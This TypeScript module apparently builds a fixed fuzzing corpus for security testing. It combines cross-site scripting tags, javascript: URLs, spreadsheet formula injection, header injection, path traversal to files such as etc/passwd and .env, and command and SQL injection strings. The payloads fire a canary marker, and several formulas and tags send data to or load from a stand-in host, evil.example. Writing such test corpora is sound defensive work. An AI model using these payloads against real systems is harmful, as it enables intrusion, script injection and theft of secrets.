/** What hostile pages, readers and programs send, by kind. Made from parts by rule, so that it is the same on every run; nothing in it is from a real page. */
export type Payload = { kind: 'markup' | 'script-address' | 'spreadsheet' | 'header' | 'path' | 'format'; text: string }

/** The name every payload that could run carries: an element, attribute or word of that name in an answer is a hole. */
export const CANARY = 'xcanary'
const RUN = `window.${CANARY}=1`

const TAGS = [
  `<script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script src=//evil.example/${CANARY}.js></script>`,
  `<img src=x onerror=${RUN}>`,
  `<IMG """><SCRIPT>${RUN}</SCRIPT>">`,
  `<svg onload=${RUN}>`,
  `<svg/onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><set attributeName=href to=javascript:${RUN}><a>x</a></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<body onload=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<iframe srcdoc="<script>parent.${CANARY}=1</script>"></iframe>`,
  `<iframe src=javascript:parent.${CANARY}=1></iframe>`,
  `<object data=javascript:${RUN}></object>`,
  `<embed src=javascript:${RUN}>`,
  `<a href=javascript:${RUN}>x</a>`,
  `<form action=javascript:${RUN}><button>x</button></form>`,
  `<button formaction=javascript:${RUN}>x</button>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}></select>`,
  `<textarea autofocus onfocus=${RUN}></textarea>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<base href=//evil.example/>`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<style>@import '//evil.example/x.css'</style>`,
  `<${CANARY}>x</${CANARY}>`,
  `<p ${CANARY}=1>x</p>`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<a id=documentElement><a id=documentElement name=${CANARY}>`,
]
/** What closes the place the text stands in, so that the tag after it is one. */
const BREAKOUTS = [
  '',
  '">',
  "'>",
  '" ',
  '--></script>',
  '</textarea>',
  '</title></style>',
  ']]>',
  '-->',
  '</content></entry>',
  '\\u003c/script\\u003e',
  '\u0000',
  '\u2028',
  '</option></select>',
]
const ATTRIBUTES = [
  `" onmouseover=${RUN} x="`,
  `' onfocus=${RUN} autofocus x='`,
  `" ${CANARY}="1`,
  `" style="background:url(//evil.example)`,
  `\` onclick=${RUN} \``,
  `"><${CANARY}>`,
  `&quot; ${CANARY}=1 &quot;`,
  `&#34; onload=${RUN}`,
]
const ENCODED = [
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `\\x3cscript\\x3e${RUN}`,
  `＜script＞${RUN}＜/script＞`,
  `<scr\u0000ipt>${RUN}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `<%= ${RUN} %>`,
  `#{${RUN}}`,
]
const ADDRESSES = [
  'javascript:',
  'JaVaScRiPt:',
  ' javascript:',
  'java\tscript:',
  'java\nscript:',
  'javascript&colon;',
  '\u0001javascript:',
  'vbscript:',
  'data:text/html,<script>',
  'data:image/svg+xml,<svg onload=',
  'blob:http://',
  'file:///etc/',
  'view-source:javascript:',
  '//evil.example/',
  'https:evil.example/',
  'http://evil.example\\@',
  'https://x"onmouseover=',
  "https://x'onfocus=",
  'https://x/<script>',
  'https://x/\u202e',
]
const FORMULAS = ['=', '+', '-', '@', '\t=', '\r=', '\n=', ' =', '"=', '＝', '＋', '－', '＠', ';=', ',=', "'="]
const CALLS = [
  '1+1',
  "cmd|'/C calc'!A0",
  'HYPERLINK("http://evil.example/?x="&A1,"click")',
  'IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
  'WEBSERVICE("http://evil.example")',
  'DDE("cmd";"/C calc";"x")',
  'SUM(A1:A9)*cmd|x',
]
const LINE_ENDS = ['\r\n', '\n', '\r', '%0d%0a', '%0a', '\u2028', '\u0085', '\\r\\n', '\v', '\u560d\u560a']
const HEADERS = [
  `Set-Cookie: ${CANARY}=1`,
  `Location: http://evil.example/`,
  `X-${CANARY}: 1`,
  `Content-Type: text/html\r\n\r\n<script>${RUN}</script>`,
  `BEGIN:VEVENT\r\nSUMMARY:${CANARY}`,
  `END:VCALENDAR`,
  `ATTACH:http://evil.example`,
]
const UPS = ['../', '..\\', '%2e%2e%2f', '..%2f', '%2e%2e/', '..%5c', '....//', '..;/', '%252e%252e%252f', '..%c0%af', '/', '\\\\', 'file:///', './.././']
const FILES = ['etc/passwd', 'package.json', 'windows/win.ini', 'readout.sqlite', '.env', 'proc/self/environ']
const FORMATS = [
  '%s%s%n',
  '\u202eevil\u202c',
  'a\u0300'.repeat(40),
  '\ud800',
  '\udfff',
  '\ufeff',
  '\u0000',
  '\u001b[31mred',
  "'; drop table sources; --",
  '" or 1=1 --',
  '$(id)',
  '`id`',
  '|id',
  '*'.repeat(60),
  '('.repeat(60),
  '{"a":',
  ']]}',
  '\\',
  '\\\\"',
  'null',
  '__proto__',
  'constructor',
  'NaN',
  '-1',
  '1e999',
  'a'.repeat(300),
]

const crossed = (left: readonly string[], right: readonly string[]): string[] =>
  left.flatMap((one, n) => right.filter((_, m) => (n + m) % 2 === 0 || n < 2).map((two) => one + two))

/** The corpus: each tag behind several closings, addresses that run, cells that count, line ends that make headers, paths that climb, odd characters. */
export const PAYLOADS: readonly Payload[] = [
  ...crossed(BREAKOUTS, TAGS).map((text): Payload => ({ kind: 'markup', text })),
  ...[...ATTRIBUTES, ...ENCODED].map((text): Payload => ({ kind: 'markup', text })),
  ...ADDRESSES.map((scheme): Payload => ({ kind: 'script-address', text: scheme + RUN })),
  ...crossed(FORMULAS, CALLS).map((text): Payload => ({ kind: 'spreadsheet', text })),
  ...crossed(LINE_ENDS, HEADERS).map((text): Payload => ({ kind: 'header', text: `a${text}` })),
  ...crossed(
    UPS.flatMap((up) => [up, up.repeat(6)]),
    FILES,
  ).map((text): Payload => ({ kind: 'path', text })),
  ...FORMATS.map((text): Payload => ({ kind: 'format', text })),
]
